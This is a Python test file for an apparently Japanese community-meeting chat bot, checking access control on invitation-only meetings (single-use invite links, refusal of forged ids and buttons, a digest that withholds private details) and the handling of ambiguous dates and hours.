    assert (await sb.wait_for_callback_answer(query))["text"].startswith(
        f"「{CARE_TITLE}」への参加を受け付けました。")
    await settle(sb)  # her confirmation is delivered before she sends /events
    await until_settled(engine)
    heading = await _say(sb, HANAKO, "/events")
    assert heading["text"] == "「東地区」のこれからの会（1件）"

    # A neighbour of the same district, and someone of 西地区, try the id and forged buttons.
    await _refused_everywhere(sb, ICHIRO, meeting_id)
    await _refused_everywhere(sb, WEST_PERSON, meeting_id)
    assert await _count(engine) == (1, 0)

    # By a link (not the id): 次郎 of 西地区 is invited by it; for 一郎 it is used up.
    await sb.press(MIKA, done, text="招待リンクを作る")
    made = await sb.wait_for_message(MIKA, after=found["message_id"])
    link = made["text"].split("\n")[-1]
    assert "start=mi" in link
    assert f"ev{meeting_id}" not in link
    sent = await sb.open_link(WEST_PERSON, link)
    _welcome, card = await sb.wait_for_messages(WEST_PERSON, after=sent["message_id"], count=2)
    assert CARE_TITLE in card["text"]
    await sb.press(WEST_PERSON, card, text="参加する")
    await sb.wait_for_edit(WEST_PERSON, card["message_id"])
    sent = await sb.open_link(ICHIRO, link)
    used = await sb.wait_for_message(ICHIRO, after=sent["message_id"])
    assert used["text"].startswith("この招待リンクは、もうほかの方が使いました。")
    assert await _count(engine) == (2, 0)

    # The organiser sees who is invited; the group never saw anything.
    await sb.press(MIKA, menu, text="招待した人を見る")
    invited = await sb.wait_for_message(MIKA, after=made["message_id"])
    assert invited["text"] == (f"「{CARE_TITLE}」に招待した人（2名）\n1. 佐藤 花子（参加）\n"
                               "2. 山田 次郎（参加）")
    assert not [m for m in await sb.messages(group["id"]) if CARE_TITLE in m.get("text", "")]

    await _reminders_and_mydata(sb, engine)
    await _the_council_reads_no_title(sb, sandbox, engine, town, meeting_id)


async def _invite_hanako_by_name(sb: SandboxClient, done: dict) -> tuple[dict, dict]:
    """The list of 東地区's people (not 美香 herself, not 西地区), then part of a name typed;
    return the list and the search's answer."""
    await sb.press(MIKA, done, text="名前で招待する")
    menu = await sb.wait_for_message(MIKA, after=done["message_id"])
    assert menu["text"].startswith(f"「{CARE_TITLE}」に招待する人を、名前のボタンで選んでください"
                                   "（東地区に住む 2名、1/1ページ）。")
    assert labels(menu) == ["佐藤 花子", "鈴木 一郎", "招待リンクを作る", "招待した人を見る"]
    found = await _say(sb, MIKA, "佐藤花子")
    assert found["text"] == "「佐藤花子」で見つかった人: 1名。招待する人の名前を押してください。"
    query = await sb.press(MIKA, found, text="佐藤 花子")
    assert (await sb.wait_for_callback_answer(query))["text"] == (
        "佐藤 花子さんを招待しました。個別チャットでお知らせします。")
    found = await sb.wait_for_edit(MIKA, found["message_id"])
    assert labels(found)[0] == "✅ 佐藤 花子"
    return menu, found


async def _reminders_and_mydata(sb: SandboxClient, engine: AsyncEngine) -> None:
    """Reminders go to the two invitees who joined; /mydata lists 花子's invitation."""
    evening = datetime.combine(START.date() - timedelta(days=1), datetime.min.time(),
                               tzinfo=TOKYO) + timedelta(hours=18)
    async with session_factory(engine)() as session, session.begin():
        assert await remind_due(session, evening.astimezone(UTC), TOKYO) == 2
    await until_settled(engine)
    mydata = await _say(sb, HANAKO, "/mydata")
    assert "・会への招待: 1件" in mydata["text"].split("\n")


async def _the_council_reads_no_title(sb: SandboxClient, sandbox: SandboxServer,
                                      engine: AsyncEngine, town: Town, meeting_id: int) -> None:
    """和子 (council member of 東地区) asks for the digest: one care meeting, no title."""
    sandbox.ensure_user(KAZUKO, "和子", "伊藤", started=True)
    await add_person(engine, KAZUKO, "伊藤 和子", town.east,
                     roles=((Role.COUNCIL_MEMBER, town.east),))
    async with session_factory(engine)() as session, session.begin():
        session.add(Council(name="東地区 協議体", area_id=town.east.id))
        # Within the digest's next two weeks, whatever day the test runs.
        await session.execute(update(Meeting).where(Meeting.id == meeting_id).values(
            starts_at=utcnow() + timedelta(days=1), ends_at=None))
    sent = await sb.send_text(KAZUKO, "/digest")
    digest = await sb.wait_for_message(KAZUKO, after=sent["message_id"], timeout=30)
    assert "・ご近所ケア会議 1件（招待制のため、内容は非公開）" in digest["text"]
    assert CARE_TITLE not in digest["text"]
    assert "佐藤花子" not in digest["text"]
    assert CARE_PLACE not in digest["text"]


async def test_forged_links_and_buttons_learn_nothing_of_a_meeting_by_invitation(
    sb: SandboxClient, engine: AsyncEngine, town: Town
) -> None:
    """The attack of issue 15, finding 4, on a meeting made straight in the database:
    ``/start ev<id>`` and forged buttons from a neighbour and from 西地区."""
    async with session_factory(engine)() as session, session.begin():
        meeting = Meeting(kind=MeetingKind.CARE_MEETING, title=CARE_TITLE,
                          area_id=town.east.id, starts_at=START.astimezone(UTC),
                          place=CARE_PLACE, capacity=8, open=False,
                          status=MeetingStatus.SCHEDULED, lock_version=0, walk_ins=0)
        session.add(meeting)
        await session.flush()
        meeting_id = meeting.id
    await _refused_everywhere(sb, ICHIRO, meeting_id)
    await _refused_everywhere(sb, WEST_PERSON, meeting_id)
    assert await _count(engine) == (0, 0)


async def test_a_date_past_this_year_and_a_bare_hour_are_asked_about(sb: SandboxClient,
                                                                     town: Town) -> None:
    """Issue 16, item 4: 「11月1日 14時」 typed on 30 November is asked about, not taken as
    2027 in silence; 「１２月３日 ２時」 is asked 午前 or 午後; the year shows when not this."""
    clock.travel(datetime(2026, 11, 30, 10, 0, tzinfo=TOKYO))
    kinds = await _say(sb, MIKA, "/newevent")
    await sb.press(MIKA, kinds, text="勉強会・研修")
    await sb.wait_for_edit(MIKA, kinds["message_id"])
    await _say(sb, MIKA, "認知症サポーター養成講座")
    asked = await _say(sb, MIKA, "11月1日 14時")
    assert asked["text"] == ("11月1日は、今年はもう過ぎています。"
                             "来年（2027年）の11月1日のことですか？")
    assert labels(asked) == ["はい", "いいえ（入力しなおす）"]
    await sb.press(MIKA, asked, text="はい")
    confirm = await sb.wait_for_edit(MIKA, asked["message_id"])
    assert confirm["text"] == "2027年11月1日(月) 14:00〜 でよろしいですか？"
    await sb.press(MIKA, confirm, text="入力しなおす")
    await sb.wait_for_edit(MIKA, confirm["message_id"])
    asked = await _say(sb, MIKA, "１２月３日 ２時")
    assert asked["text"] == "午前2時と午後2時の、どちらですか？"
    assert labels(asked) == ["午前2時", "午後2時"]
    await sb.press(MIKA, asked, text="午後2時")
    confirm = await sb.wait_for_edit(MIKA, asked["message_id"])
    assert confirm["text"] == "12月3日(木) 14:00〜 でよろしいですか？"
    # both at once, the hour answered by typing again instead of pressing
    await sb.press(MIKA, confirm, text="入力しなおす")
    await sb.wait_for_edit(MIKA, confirm["message_id"])
    asked = await _say(sb, MIKA, "11月1日 2時半")
    assert asked["text"].startswith("11月1日は、今年はもう過ぎています。")
    await sb.press(MIKA, asked, text="はい")
    hour = await sb.wait_for_edit(MIKA, asked["message_id"])
    assert hour["text"] == "午前2時半と午後2時半の、どちらですか？"
    confirm = await _say(sb, MIKA, "12月3日 午前10時")
    assert confirm["text"] == "12月3日(木) 10:00〜 でよろしいですか？"
    await sb.press(MIKA, confirm, text="はい")
    ask_place = await sb.wait_for_message(MIKA, after=confirm["message_id"])
    assert ask_place["text"].startswith("場所を送ってください")


async def test_a_changed_time_is_asked_about_and_read_back_before_it_is_saved(
        sb: SandboxClient, engine: AsyncEngine, town: Town) -> None:
    """Issue 16, item 4, at /myevents' 日時を変える: 「１１月１日 ２時」 on 30 November asks next
    year? then 午前 or 午後? (answered by typing 「はい」「午後２時」), reads the time back with
    its year, and only 「はい」 changes the meeting."""
    clock.travel(datetime(2026, 11, 30, 10, 0, tzinfo=TOKYO))
    # Created on that day too (START is reckoned from the machine's day, which CI moves).
    await _create(sb, announce=False, typed="12月9日(水) 14:00-15:30",
                  shown="12月9日(水) 14:00〜15:30")
    mine = await _say(sb, MIKA, "/myevents")
    await sb.press(MIKA, mine, text="日時を変える")
    ask = await sb.wait_for_message(MIKA, after=mine["message_id"])
    assert ask["text"].startswith("日にちと時間を送ってください。")
    year = await _say(sb, MIKA, "１１月１日 ２時")
    assert year["text"] == ("11月1日は、今年はもう過ぎています。"
                            "来年（2027年）の11月1日のことですか？")
    hour = await _say(sb, MIKA, "はい")
    assert hour["text"] == "午前2時と午後2時の、どちらですか？"
    confirm = await _say(sb, MIKA, "午後２時")
    assert confirm["text"] == "2027年11月1日(月) 14:00〜 でよろしいですか？"
    async with session_factory(engine)() as session:
        meeting = await session.scalar(select(Meeting))
        assert meeting is not None
        assert meeting.starts_at is not None
        assert meeting.starts_at.astimezone(TOKYO).date() == date(2026, 12, 9)  # not yet
    again = await _say(sb, MIKA, "それで")  # not an answer: the question again
    assert again["text"].startswith("「それで」を日時として読み取れませんでした。")
    changed = await _say(sb, MIKA, "はい")
    assert changed["text"] == f"「{TITLE}」を変更しました。申し込んだ 0名にお知らせします。"
    await settle(sb)
    async with session_factory(engine)() as session:
        meeting = await session.scalar(select(Meeting))
        assert meeting is not None
        assert meeting.starts_at is not None
        assert meeting.starts_at.astimezone(TOKYO) == datetime(2027, 11, 1, 14, 0,
                                                                tzinfo=TOKYO)
        assert meeting.awaiting is None
